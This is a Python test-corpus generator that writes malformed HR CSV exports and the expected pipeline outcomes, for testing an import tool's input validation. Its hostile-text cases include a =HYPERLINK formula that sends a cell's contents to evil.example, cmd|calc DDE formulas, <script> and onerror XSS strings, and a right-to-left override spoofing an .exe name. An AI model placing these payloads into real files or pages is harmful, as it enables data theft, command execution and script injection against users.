"""Generate the malformed HR exports of this folder and ``cases.json`` (deterministic: no randomness).

Run ``python tests/data/bad_inputs/make_corpus.py`` to rewrite every file; the output is committed, and
``tests/reliability/test_bad_inputs.py`` checks that it is up to date.

Each export is Microsoft's CSV2SCIM layout plus ``Email`` (the layout of ``dags/data/hr_employees.csv``)
with five good workers (1001 is the CEO; 1002 and 1003 report to 1001; 1004 to 1002; 1005 to 1003) and one
defect, named by the file. ``cases.json`` says what each file must give:

* ``kind: "ok"``: every row goes through (``passes`` lists the externalIds sent);
* ``kind: "quarantine"``: the rows in ``quarantined`` are set aside (``row`` is the 0-based data row,
  ``step`` the pipeline step, ``reason`` a substring of the reason), every id in ``passes`` goes through;
* ``kind: "error"``: the run stops at ``step`` (``read`` or ``transform``) with an error whose message
  contains ``message``; nothing half-written is left behind.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
COLUMNS = [
    "WorkerID", "WorkerStatus", "WorkerType", "UserID", "FirstName", "LastName", "FullName", "GenderPronoun",
    "ManagerID", "HireDate", "OnLeave", "Department", "Division", "CostCenter", "Company", "Location",
    "JobTitle", "StreetAddress", "City", "CountryCode", "OfficePhone", "Custom01", "Custom02", "ZipCode",
    "Email",
]  # fmt: skip
GOOD = [
    ("1001", "Ana", "Costa", "", "Chief Executive Officer"),
    ("1002", "Ben", "Rossi", "1001", "Head of Sales"),
    ("1003", "Chloé", "Müller", "1001", "Head of Engineering"),
    ("1004", "David", "Okafor", "1002", "Account Executive"),
    ("1005", "Emma", "Nakamura", "1003", "Software Engineer"),
]
GOOD_IDS = [g[0] for g in GOOD]


def row(
    worker_id: str, first: str, last: str, manager: str = "", title: str = "Engineer", **over: str
) -> dict:
    """One HR row with sensible values for every column; ``over`` replaces any of them."""
    values = {
        "WorkerID": worker_id,
        "WorkerStatus": "Active",
        "WorkerType": "Employee",
        "UserID": (first[:1] + last).lower(),
        "FirstName": first,
        "LastName": last,
        "FullName": f"{first} {last}",
        "GenderPronoun": "",
        "ManagerID": manager,
        "HireDate": "2019-04-01",
        "OnLeave": "False",
        "Department": "Sales",
        "Division": "Commercial",
        "CostCenter": "CC1100",
        "Company": "Contoso",
        "Location": "Oslo",
        "JobTitle": title,
        "StreetAddress": "Karl Johans gate 1",
        "City": "Oslo",
        "CountryCode": "NO",
        "OfficePhone": "+47 22 00 00 00",
        "Custom01": "",
        "Custom02": "",
        "ZipCode": "0154",
        "Email": f"{worker_id}@contoso.com",
    }
    values.update(over)
    return values


def good_rows() -> list[dict]:
    return [row(*g) for g in GOOD]


def to_csv(rows: list[dict], columns: list[str] | None = None, delimiter: str = ",") -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns or COLUMNS, delimiter=delimiter, lineterminator="\n")
    writer.writeheader()
    for r in rows:
        writer.writerow({k: v for k, v in r.items() if k in (columns or COLUMNS)})
    return out.getvalue()


def without(rows: list[dict], column: str) -> tuple[list[dict], list[str]]:
    return rows, [c for c in COLUMNS if c != column]


CASES: list[dict[str, Any]] = []


def case(name: str, data: bytes | str, defect: str, kind: str, **expect: Any) -> None:
    payload = data.encode("utf-8") if isinstance(data, str) else data
    CASES.append({"file": f"{name}.csv", "defect": defect, "kind": kind, **expect, "_bytes": payload})


def quarantined(row_number: int, reason: str, step: str = "validate") -> dict:
    return {"row": row_number, "step": step, "reason": reason}


def build() -> None:
    g = good_rows()
    ok = {"passes": GOOD_IDS}

    # --- encodings and file shape ------------------------------------------------------------------------
    case("utf8_with_bom", codecs.BOM_UTF8 + to_csv(g).encode(), "UTF-8 with a byte-order mark", "ok", **ok)
    case(
        "cp1252_windows_excel",
        to_csv(g + [row("1006", "José", "Núñez", "1001")]).encode("cp1252"),
        "Windows-1252 (Excel 'CSV' on Windows): accented names are not UTF-8",
        "ok",
        passes=[*GOOD_IDS, "1006"],
        read_warning="read it as cp1252",
    )
    case(
        "latin1_bytes_undefined_in_cp1252",
        to_csv([*g[:4], row(*GOOD[4], City="Osl\x81o")]).encode("latin-1"),
        "Latin-1 with a byte (0x81) cp1252 does not define: it decodes to a C1 control character",
        "quarantine",
        quarantined=[quarantined(4, "City: contains control character U+0081")],
        passes=GOOD_IDS[:4],
        read_warning="read it as latin-1",
    )
    case(
        "utf16_excel_unicode_text",
        codecs.BOM_UTF16_LE + to_csv(g, delimiter="\t").encode("utf-16-le"),
        "UTF-16 with BOM, tab-separated (Excel 'Unicode text')",
        "ok",
        **ok,
    )
    case("empty", b"", "an empty file (0 bytes)", "error", step="read", message="is empty")
    case("whitespace_only", "\n \n\t\n", "only blank lines", "error", step="read", message="is empty")
    case("bom_only", codecs.BOM_UTF8, "a UTF-8 byte-order mark and nothing else", "error", step="read",
         message="is empty")  # fmt: skip
    case("header_only", to_csv([]), "a header and no rows", "error", step="read", message="no data rows")
    case(
        "excel_workbook_renamed",
        b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40,
        "an .xlsx workbook saved with a .csv name",
        "error",
        step="read",
        message="Excel",
    )
    case(
        "utf16_without_bom",
        to_csv(g).encode("utf-16-le"),
        "UTF-16 without a byte-order mark (NUL bytes everywhere)",
        "error",
        step="read",
        message="UTF-16 without a byte-order mark",
    )
    case("semicolon_delimited", to_csv(g, delimiter=";"), "semicolons instead of commas (European Excel)",
         "ok", **ok)  # fmt: skip
    case(
        "crlf_and_blank_lines",
        to_csv(g).replace("\n", "\r\n").replace("1003,", "\r\n1003,", 1) + "\r\n\r\n",
        "Windows line endings and blank lines",
        "ok",
        **ok,
    )
    case(
        "padded_header_names",
        to_csv(g).replace("WorkerID,WorkerStatus", " WorkerID , WorkerStatus", 1),
        "spaces around header names",
        "ok",
        **ok,
        read_warning="spaces around header name",
    )
    case(
        "duplicate_column_names",
        to_csv(g).replace(",Email\n", ",WorkerID\n", 1),
        "two columns named WorkerID",
        "error",
        step="read",
        message="duplicate column name(s): WorkerID",
    )
    case(
        "blank_header_name",
        to_csv(g).replace(",Custom01,", ",,", 1),
        "a header column without a name",
        "error",
        step="read",
        message="have no name",
    )
    text = to_csv(g).splitlines(keepends=True)
    text[3] = text[3].replace("Head of Engineering", "Head of Engineering, Platform", 1)
    case(
        "unquoted_delimiter_in_value",
        "".join(text),
        "a comma inside an unquoted value: one row has too many fields",
        "error",
        step="read",
        message="line 4 has 26 fields but the header has 25",
    )
    text = to_csv(g).splitlines(keepends=True)
    text[4] = text[4].replace("David", '"David', 1)
    case("unterminated_quote", "".join(text), "a quote that is never closed", "error", step="read",
         message="never closed")  # fmt: skip
    short = to_csv(g).splitlines(keepends=True)
    short[5] = "1005,Active,Employee,enakamura,Emma\n"
    case(
        "truncated_row",
        "".join(short),
        "a row cut short (fewer fields than the header): its LastName is missing",
        "quarantine",
        quarantined=[quarantined(4, "LastName: missing")],
        passes=GOOD_IDS[:4],
    )

    # --- columns -----------------------------------------------------------------------------------------
    rows, cols = without(g, "WorkerID")
    case("missing_workerid_column", to_csv(rows, cols), "no WorkerID column", "error", step="transform",
         message="missing required column(s): WorkerID")  # fmt: skip
    cols = [c for c in COLUMNS if c not in ("FirstName", "LastName")]
    case("missing_name_columns", to_csv(g, cols), "no FirstName/LastName columns", "error", step="transform",
         message="FirstName, LastName")  # fmt: skip
    rows, cols = without(g, "Email")
    case(
        "missing_mapped_column",
        to_csv(rows, cols),
        "no Email column (the mapping reads it)",
        "error",
        step="transform",
        message="Email",
    )

    # --- ids -----------------------------------------------------------------------------------------------
    case(
        "duplicate_ids_conflicting",
        to_csv(g + [row("1004", "Dave", "Okafor", "1002")]),
        "WorkerID 1004 twice with different names",
        "quarantine",
        quarantined=[quarantined(3, "also appears in row(s) 5"), quarantined(5, "also appears in row(s) 3")],
        passes=["1001", "1002", "1003", "1005"],
    )
    case(
        "duplicate_ids_identical",
        to_csv(g + [row(*GOOD[3])]),
        "the same row twice (collapsed into one)",
        "ok",
        **ok,
    )
    case(
        "blank_ids",
        to_csv(g + [row("", "Farah", "Haddad", "1001"), row("   ", "George", "Walker", "1001")]),
        "two rows without a WorkerID (empty, spaces)",
        "quarantine",
        quarantined=[quarantined(5, "WorkerID: missing"), quarantined(6, "WorkerID: missing")],
        **ok,
    )
    case(
        "whitespace_inside_id",
        to_csv(g + [row("10 06", "Farah", "Haddad", "1001")]),
        "a WorkerID with a space inside",
        "quarantine",
        quarantined=[quarantined(5, "WorkerID: contains whitespace")],
        **ok,
    )
    case(
        "id_longer_than_64",
        to_csv(g + [row("9" * 100, "Farah", "Haddad", "1001")]),
        "a 100-character WorkerID",
        "quarantine",
        quarantined=[quarantined(5, "WorkerID: longer than 64 characters")],
        **ok,
    )
    case(
        "leading_zero_ids",
        to_csv(g + [row("007", "James", "Bond", "1001"), row("7", "Seven", "Nine", "1001")]),
        "ids 007 and 7 (distinct: ids are text)",
        "ok",
        passes=[*GOOD_IDS, "007", "7"],
    )

    # --- values -------------------------------------------------------------------------------------------
    case(
        "unparseable_dates",
        to_csv(g + [row("1006", "Farah", "Haddad", "1001", HireDate="01/13/2020"),
                    row("1007", "Hana", "Kim", "1001", HireDate="2023-02-30"),
                    row("1008", "Ivan", "Novak", "1001", HireDate="yesterday")]),
        "HireDate 01/13/2020, 2023-02-30 and 'yesterday'",
        "quarantine",
        quarantined=[quarantined(5, "HireDate: cannot parse '01/13/2020'"),
                     quarantined(6, "HireDate: cannot parse '2023-02-30'"),
                     quarantined(7, "HireDate: cannot parse 'yesterday'")],
        **ok,
    )  # fmt: skip
    case(
        "unknown_status",
        to_csv(g + [row("1006", "Farah", "Haddad", "1001", WorkerStatus="Retired-ish")]),
        "WorkerStatus 'Retired-ish'",
        "quarantine",
        quarantined=[quarantined(5, "WorkerStatus: unknown value 'Retired-ish'")],
        **ok,
    )
    case(
        "bad_onleave_flag",
        to_csv(g + [row("1006", "Farah", "Haddad", "1001", OnLeave="maybe")]),
        "OnLeave 'maybe'",
        "quarantine",
        quarantined=[quarantined(5, "OnLeave: cannot read 'maybe' as true/false")],
        **ok,
    )
    case(
        "control_characters",
        to_csv(g + [row("1006", "Far\x00ah", "Haddad", "1001"), row("1007", "Hana", "Kim\x07", "1001"),
                    row("1008", "Ivan", "Novak", "1001", JobTitle="Line one\nline two")]),
        "NUL, BEL and a line break inside values",
        "quarantine",
        quarantined=[quarantined(5, "U+0000"), quarantined(6, "LastName: contains control character U+0007"),
                     quarantined(7, "JobTitle: contains control character U+000A")],
        **ok,
    )  # fmt: skip
    case(
        "name_10000_characters",
        to_csv(g + [row("1006", "A" * 10_000, "Haddad", "1001")]),
        "a 10,000-character first name",
        "quarantine",
        quarantined=[quarantined(5, "FirstName: longer than 64 characters (10000)")],
        **ok,
    )
    case(
        "invalid_emails",
        to_csv(g + [row(str(1006 + i), "Farah", f"Haddad{i}", "1001", Email=email)
                    for i, email in enumerate(["jane doe@contoso.com", "n/a", "a..b@contoso.com",
                                               "<b>x</b>@contoso.com", "x@-contoso.com"])]),
        "Email values that are not addresses (a space, n/a, two dots, HTML, a bad host)",
        "quarantine",
        quarantined=[quarantined(n, "is not an email address", "mapping") for n in range(5, 10)],
        **ok,
    )  # fmt: skip
    case(
        "display_name_300_characters",
        to_csv(g + [row("1006", "Farah", "Haddad", "1001", FullName="Farah " + "H" * 300)]),
        "a 306-character FullName (Entra's displayName holds 256)",
        "quarantine",
        quarantined=[quarantined(5, "FullName: longer than 256 characters")],
        **ok,
    )

    # --- management chain --------------------------------------------------------------------------------
    case(
        "self_manager",
        to_csv(g + [row("1006", "Farah", "Haddad", "1006")]),
        "a worker who is their own manager",
        "quarantine",
        quarantined=[quarantined(5, "own manager")],
        **ok,
    )
    case(
        "manager_cycle",
        to_csv(g + [row("1006", "Farah", "Haddad", "1007"), row("1007", "Hana", "Kim", "1008"),
                    row("1008", "Ivan", "Novak", "1006")]),
        "1006 -> 1007 -> 1008 -> 1006 manage each other",
        "quarantine",
        quarantined=[quarantined(n, "management cycle") for n in (5, 6, 7)],
        **ok,
    )  # fmt: skip
    case(
        "unknown_manager",
        to_csv(g + [row("1006", "Farah", "Haddad", "4242")]),
        "a manager who is in neither the export nor Entra (a warning: the worker is still sent)",
        "ok",
        passes=[*GOOD_IDS, "1006"],
        warning={"externalId": "1006", "reason": "4242"},
    )

    # --- hostile and unusual text ---------------------------------------------------------------------------
    case(
        "emoji_and_right_to_left",
        to_csv(g + [row("1006", "Zoë 😀", "Ødegård", "1001"), row("1007", "محمد", "العربي", "1001"),
                    row("1008", "שרה", "כהן", "1001", JobTitle="מהנדסת\u202etxt.exe")]),
        "emoji, Arabic and Hebrew names, a right-to-left override in a title",
        "ok",
        passes=[*GOOD_IDS, "1006", "1007", "1008"],
    )  # fmt: skip
    case(
        "csv_formula_strings",
        to_csv(g + [row("1006", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Haddad", "1001"),
                    row("1007", "+cmd|' /C calc'!A0", "Kim", "1001", Department="@SUM(1+1)*cmd"),
                    row("1008", "-2+3", "Novak", "1001", JobTitle="=1+1"),
                    row("=1+2", "Formula", "Id", "1001"),
                    row("@cmd", "Bad", "Status", "1001", WorkerStatus="=cmd|' /C calc'!A0")]),
        "spreadsheet formulas (=HYPERLINK, +cmd, @SUM, -2+3) in names, titles, WorkerIDs and a status",
        "quarantine",
        quarantined=[quarantined(9, "WorkerStatus: unknown value '=cmd|")],
        passes=[*GOOD_IDS, "1006", "1007", "1008", "=1+2"],
        hostile=True,
    )  # fmt: skip
    case(
        "html_and_script_in_names",
        to_csv(g + [row("1006", "<script>alert(1)</script>", "Haddad", "1001"),
                    row("1007", "Hana", "<img src=x onerror=alert(2)>", "1001", JobTitle="</td><b>boss</b>"),
                    row("<b>1008</b>", "Bold", "Id", "1001", Email="bold.id@contoso.com"),
                    row("1009", "Ivan", "O'Brien \"&\" Sons", "1001")]),
        "HTML and <script> in names, a title and a WorkerID; quotes and ampersands",
        "ok",
        passes=[*GOOD_IDS, "1006", "1007", "<b>1008</b>", "1009"],
        hostile=True,
    )  # fmt: skip
    case(
        "only_bad_rows",
        to_csv([row("", "Farah", "Haddad"), row("1007", "Hana", "Kim", WorkerStatus="???")]),
        "no row can be sent",
        "quarantine",
        quarantined=[quarantined(0, "WorkerID: missing"), quarantined(1, "WorkerStatus: unknown value")],
        passes=[],
    )


def write(out: Path = HERE) -> list[dict[str, Any]]:
    """Write every export and ``cases.json`` into ``out`` (old ``*.csv`` there are removed first)."""
    CASES.clear()
    build()
    out.mkdir(parents=True, exist_ok=True)
    for old in out.glob("*.csv"):
        old.unlink()
    manifest = []
    for item in CASES:
        item = dict(item)
        (out / item["file"]).write_bytes(item.pop("_bytes"))
        manifest.append(item)
    text = json.dumps(manifest, indent=2, ensure_ascii=False) + "\n"
    (out / "cases.json").write_text(text, encoding="utf-8")
    return manifest


if __name__ == "__main__":
    cases = write(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
    print(f"wrote {len(cases)} files and cases.json")
